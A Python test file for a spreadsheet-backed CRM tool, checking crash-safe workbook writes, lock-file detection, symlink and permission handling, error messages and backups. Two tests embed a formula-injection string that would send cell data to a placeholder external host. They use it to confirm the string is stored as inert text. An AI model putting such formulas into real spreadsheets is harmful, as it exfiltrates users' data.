"""Local workbooks handled safely: atomic replace under SIGKILL, our own leftovers cleaned,
a person's save never overwritten, open workbooks left alone, links followed, modes kept,
ordinary file errors as one line, and copies that can restore the workbook."""

from __future__ import annotations

import datetime as dt
import errno
import os
import random
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

import sheetcrm
from sheetcrm.backends import files
from sheetcrm.backends.backup import pull, save_copy
from sheetcrm.backends.base import RawTab
from sheetcrm.backends.xlsx import XlsxBackend
from sheetcrm.cli import cli
from sheetcrm.engine.compute import compute
from sheetcrm.engine.plan import plan
from sheetcrm.exceptions import WorkbookBusyError, WorkbookChangedError, WorkbookWriteError
from sheetcrm.schema import Tab

AS_OF = dt.date(2026, 6, 30)


def _workbook(path: Path, contacts: int = 3) -> Path:
    """A small CRM workbook (XlsxWriter, as Excel writes it) with ``contacts`` buyers."""
    import xlsxwriter

    book = xlsxwriter.Workbook(str(path))
    date = book.add_format({"num_format": "yyyy-mm-dd"})
    ws = book.add_worksheet("Companies")
    ws.write_row(0, 0, ["ID", "Name"])
    ws.write_row(1, 0, ["CO-0001", "Harbor Ltd."])
    ws = book.add_worksheet("Contacts")
    ws.write_row(0, 0, ["ID", "Company ID", "Name", "Email"])
    for i in range(1, contacts + 1):
        ws.write_row(i, 0, [f"P-{i:05d}", "CO-0001", f"Person {i}", f"p{i}@example.com"])
    ws = book.add_worksheet("Opportunities")
    ws.write_row(0, 0, ["ID", "Name", "Stage"])
    ws = book.add_worksheet("Activities")
    ws.write_row(0, 0, ["ID", "Date", "Type", "Contact ID", "Amount"])
    for i in range(1, contacts + 1):
        ws.write_row(i, 0, [f"A-{i:05d}"])
        ws.write_datetime(i, 1, dt.datetime(2026, 1, 1) + dt.timedelta(days=i % 150), date)
        ws.write_row(i, 2, ["Purchase", f"P-{i:05d}", 100 + i])
    book.close()
    return path


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def test_sigkill_at_random_moments_never_corrupts_and_leftovers_go_next_run(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "crm.xlsx", contacts=1500)
    original = path.read_bytes()
    wb = sheetcrm.open(path)
    problems = wb.validate()
    the_plan = plan(wb.tables, compute(wb.tables, wb.settings, AS_OF, problems), wb.settings, AS_OF, "kill").write
    t0 = time.perf_counter()
    XlsxBackend(path).write(the_plan)
    seconds = time.perf_counter() - t0
    written = _parts(path)
    rng = random.Random(13)
    left_behind = 0
    for _ in range(20):
        path.write_bytes(original)
        pid = os.fork()
        if pid == 0:  # the child writes; the parent kills it somewhere in the middle
            try:
                XlsxBackend(path).write(the_plan)
            finally:
                os._exit(0)
        time.sleep(rng.uniform(0, seconds * 1.2))
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        parts = _parts(path)  # a whole workbook: the original or the finished write
        assert parts == written or path.read_bytes() == original
        left_behind += bool(_leftovers(tmp_path))
        XlsxBackend(path).read()  # the next run cleans up what the killed one left
        assert _leftovers(tmp_path) == []
    assert left_behind > 0  # some kills did land mid-write


def test_only_our_own_leftovers_of_dead_runs_are_removed(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "crm.xlsx")
    dead = tmp_path / ".crm.xlsx.sheetcrm-99999999-0123abcd.tmp"
    running = tmp_path / f".crm.xlsx.sheetcrm-{os.getpid()}-89abcdef.tmp"
    other_book = tmp_path / ".other.xlsx.sheetcrm-99999999-0123abcd.tmp"
    not_ours = tmp_path / ".crm.xlsx.k3j4h5.tmp"
    for p in (dead, running, other_book, not_ours):
        p.write_bytes(b"x")
    XlsxBackend(path).read()
    assert _leftovers(tmp_path) == sorted([running.name, other_book.name, not_ours.name])


def test_a_person_saving_during_the_write_is_never_overwritten(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "crm.xlsx")
    theirs = _workbook(tmp_path / "theirs.xlsx", contacts=5)
    wb = sheetcrm.open(path)

    def person_saves() -> None:  # as Excel does: a new file renamed over the old one
        os.replace(theirs, path)

    backend = wb.backend
    assert isinstance(backend, XlsxBackend)
    backend.before_replace = person_saves
    with pytest.raises(WorkbookChangedError, match="saved by someone else"):
        wb.sync(as_of=AS_OF)
    assert len(XlsxBackend(path).read()[Tab.CONTACTS].rows) == 5
    assert _leftovers(tmp_path) == []
    # The next run redoes the work on the person's version.
    report = sheetcrm.open(path).sync(as_of=AS_OF).report
    assert report is not None
    assert report.written > 0


@pytest.mark.parametrize(
    ("lock_name", "content", "who"),
    [
        ("~$crm.xlsx", bytes([8]) + b"Amy Chen" + b" " * 45 + b"\x08\x00" + "Amy Chen".encode("utf-16-le"), "Amy Chen"),
        # LibreOffice writes: full name, system user, host, time, profile URL.
        (
            ".~lock.crm.xlsx#",
            "王小明,wang,office-pc,30.11.2026 09:12,file:///home/wang/.config;".encode(),
            "王小明 on office-pc",
        ),
        (
            ".~lock.crm.xlsx#",
            b",wang,office-pc,30.11.2026 09:12,file:///home/wang/.config;",
            "wang on office-pc",
        ),
    ],
)
def test_a_workbook_open_in_excel_or_libreoffice_is_not_written(
    tmp_path: Path, lock_name: str, content: bytes, who: str
) -> None:
    path = _workbook(tmp_path / "crm.xlsx")
    (tmp_path / lock_name).write_bytes(content)
    before = path.read_bytes()
    result = CliRunner().invoke(cli, ["sync", str(path), "--as-of", "2026-06-30"])
    assert result.exit_code == 2
    assert who in result.output and "--force" in result.output and "Traceback" not in result.output
    assert path.read_bytes() == before
    forced = CliRunner().invoke(cli, ["sync", str(path), "--as-of", "2026-06-30", "--force"])
    assert forced.exit_code == 0, forced.output
    assert path.read_bytes() != before


def test_a_lock_held_by_another_program_is_respected(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "crm.xlsx")
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import fcntl, os, sys, time; fd = os.open(sys.argv[1], os.O_RDWR); fcntl.lockf(fd, fcntl.LOCK_EX); "
            "print('locked', flush=True); time.sleep(120)",
            str(path),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
        with pytest.raises(WorkbookBusyError, match="holds a lock"):
            sheetcrm.open(path).sync(as_of=AS_OF)
    finally:
        holder.kill()
        holder.wait()


def test_a_symlinked_workbook_is_written_through_to_its_target(tmp_path: Path) -> None:
    (tmp_path / "shared").mkdir()
    real = _workbook(tmp_path / "shared" / "crm.xlsx")
    link = tmp_path / "link.xlsx"
    link.symlink_to(real)
    before = real.read_bytes()
    result = sheetcrm.open(link).sync(as_of=AS_OF)
    assert result.report is not None and result.report.written > 0
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert real.read_bytes() != before
    assert _leftovers(tmp_path / "shared") == [] and _leftovers(tmp_path) == []


def test_mode_is_kept_and_new_files_get_the_usual_mode(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "crm.xlsx")
    os.chmod(path, 0o640)
    sheetcrm.open(path).sync(as_of=AS_OF)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    umask = os.umask(0o022)
    try:
        copy = pull(XlsxBackend(path), tmp_path / "copy.xlsx")
    finally:
        os.umask(umask)
    assert stat.S_IMODE(copy.stat().st_mode) == 0o644


def test_backup_and_pull_of_an_xlsx_are_byte_copies(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "crm.xlsx")
    before = path.read_bytes()
    result = CliRunner().invoke(cli, ["sync", str(path), "--as-of", "2026-06-30", "--backup", str(tmp_path / "bk")])
    assert result.exit_code == 0, result.output
    (copy,) = (tmp_path / "bk").iterdir()
    assert copy.read_bytes() == before and path.read_bytes() != before
    pulled = CliRunner().invoke(cli, ["pull", str(path), "--to", str(tmp_path / "pulled.xlsx")])
    assert pulled.exit_code == 0, pulled.output
    assert (tmp_path / "pulled.xlsx").read_bytes() == path.read_bytes()


def test_text_that_looks_like_a_formula_stays_text_in_a_copy(tmp_path: Path) -> None:
    hostile = '=WEBSERVICE("http://example.invalid/"&B2)'
    tabs = {Tab.CONTACTS: RawTab(Tab.CONTACTS, "Contacts", ["ID", "Name", hostile], [["P-1", hostile, "+1-2"]])}
    saved = save_copy(tabs, tmp_path / "copy.xlsx")
    ws = openpyxl.load_workbook(saved)["Contacts"]
    assert [c.data_type for c in ws[2]] == ["s", "s", "s"] and ws["B2"].value == hostile
    with zipfile.ZipFile(saved) as zf:
        assert all(b"<f>" not in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("crm.xlsm", None, "macro-enabled"),
        ("locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "password-protected"),
        ("broken.xlsx", b"PK\x03\x04 not really a zip", "cannot be read as an .xlsx"),
        ("missing/crm.xlsx", None, "no workbook at"),
    ],
)
def test_ordinary_file_errors_are_one_line_and_exit_2(
    tmp_path: Path, name: str, content: bytes | None, message: str
) -> None:
    path = tmp_path / name
    if name.endswith(".xlsm"):
        _workbook(tmp_path / "tmp.xlsx").rename(path)
    elif content is not None:
        path.write_bytes(content)
    result = CliRunner().invoke(cli, ["sync", str(path)])
    assert result.exit_code == 2
    assert message in result.output and "Traceback" not in result.output
    assert len(result.output.strip().splitlines()) == 1 or result.output.count("Error:") == 1


def test_a_full_disk_leaves_the_workbook_as_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = _workbook(tmp_path / "crm.xlsx")
    before = path.read_bytes()

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", full)
    result = CliRunner().invoke(cli, ["sync", str(path), "--as-of", "2026-06-30", "-q"])
    assert result.exit_code == 2 and "the disk is full" in result.output
    assert path.read_bytes() == before and _leftovers(tmp_path) == []


def test_plan_csv_is_written_before_the_workbook(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "crm.xlsx")
    before = path.read_bytes()
    bad = CliRunner().invoke(
        cli, ["sync", str(path), "--as-of", "2026-06-30", "--plan-csv", str(tmp_path / "no" / "plan.csv")]
    )
    assert bad.exit_code == 2 and "does not exist" in bad.output
    assert path.read_bytes() == before  # the failed plan file stopped the write
    good = CliRunner().invoke(cli, ["sync", str(path), "--as-of", "2026-06-30", "--plan-csv", str(tmp_path / "p.csv")])
    assert good.exit_code == 0 and (tmp_path / "p.csv").read_text(encoding="utf-8-sig").startswith("tab,row,id,column")


def test_demo_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
    path = tmp_path / "demo.xlsx"
    path.write_bytes(b"my own data")
    result = CliRunner().invoke(cli, ["demo", str(path)])
    assert result.exit_code == 2 and "--force" in result.output
    assert path.read_bytes() == b"my own data"


def test_writing_into_a_missing_folder_is_one_line(tmp_path: Path) -> None:
    with pytest.raises(WorkbookWriteError, match="does not exist"):
        files.write_bytes(b"x", tmp_path / "nowhere" / "a.xlsx")


def test_a_copy_of_a_google_spreadsheet_keeps_every_tab_and_formulas_as_formulas(
    fake, google_client, tmp_path: Path
) -> None:
    from sheetcrm.workbook import open_backend

    hostile = '=WEBSERVICE("http://example.invalid/"&B2)'
    key = fake.create_spreadsheet(
        "CRM",
        {
            "Companies": [["ID", "Name"], ["CO-0001", "Harbor"]],
            "Contacts": [["ID", "Name", "Note"], ["P-0001", "Amy", hostile]],
            "Opportunities": [["ID", "Name", "Stage", "Amount", "Double"], ["OP-1", "Deal", "Lead", 10, "=D2*2"]],
            "Activities": [["ID", "Date", "Type"]],
            "My notes": [["anything", 1]],
        },
        value_input="USER_ENTERED",
    )
    # USER_ENTERED made the hostile text a formula too: store it again as text (RAW), as a person can.
    google_client.open_by_key(key).worksheet("Contacts").update([[hostile]], "C2", raw=True)
    saved = pull(open_backend(key, client=google_client), tmp_path / "copy.xlsx")
    wb = openpyxl.load_workbook(saved)
    assert wb.sheetnames == ["Companies", "Contacts", "Opportunities", "Activities", "My notes"]
    assert wb["Opportunities"]["E2"].value == "=D2*2" and wb["Opportunities"]["E2"].data_type == "f"
    assert wb["Contacts"]["C2"].value == hostile and wb["Contacts"]["C2"].data_type == "s"
    assert wb["My notes"]["B1"].value == 1
